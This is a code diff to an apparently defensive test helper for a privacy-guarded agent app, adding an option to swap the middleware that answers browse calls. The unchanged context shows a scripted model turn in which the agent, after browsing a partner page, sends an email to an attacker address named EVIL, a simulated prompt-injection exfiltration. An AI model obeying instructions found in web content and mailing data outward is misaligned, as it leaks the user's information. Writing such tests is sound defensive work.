@@ -83,11 +83,13 @@ def browse_then_obey(url: str = PARTNER) -> list[Any]:
             AIMessage("", tool_calls=[{"name": "send_email", "id": "m1", "args": {"to": EVIL, "body": "quote"}}])]
 
 
-def obeyed_past_the_gate(cached: Any, turns: list[Any] | None = None) -> tuple[list[Any], list[list[Any]]]:
+def obeyed_past_the_gate(cached: Any, turns: list[Any] | None = None, *,
+                         past: Any = None) -> tuple[list[Any], list[list[Any]]]:
     """Run a `create_agent` app guarded by `GuardMiddleware` (a privacy flow, the user `ME`) whose cache
     answers every `browse` past the gate with `cached` (text or content blocks), the model taking `turns`
     in order, one per tool message so far (`browse_then_obey()` by default). Returns the mails sent and the
-    (call id, rule, argument) findings of the journal's audit and of the messages' audit."""
+    (call id, rule, argument) findings of the journal's audit and of the messages' audit. `past`: another
+    middleware in the cache's place."""
     sent: list[Any] = []
     tools = [web_page("(the live page, never read: the cache answers)"), mail_to(sent)]
     steps = browse_then_obey() if turns is None else turns
@@ -99,7 +101,7 @@ def obeyed_past_the_gate(cached: Any, turns: list[Any] | None = None) -> tuple[l
     policy = PrivacyPolicy.of(ME)
     flow = PrivacyFlow(policy, secret=b"past-the-gate")
     mw = GuardMiddleware([flow.guard()], flow=flow, read_only=["browse"])
-    app = create_agent(ScriptedModel(rule=rule), tools, middleware=[mw, AnsweredPastTheGate("browse", cached)],
+    app = create_agent(ScriptedModel(rule=rule), tools, middleware=[mw, past or AnsweredPastTheGate("browse", cached)],
                        checkpointer=InMemorySaver())
     out = app.invoke({"messages": [HumanMessage(f"Get me a quote from the partner, mail me at {ME}")]},
                      {"configurable": {"thread_id": "t"}})
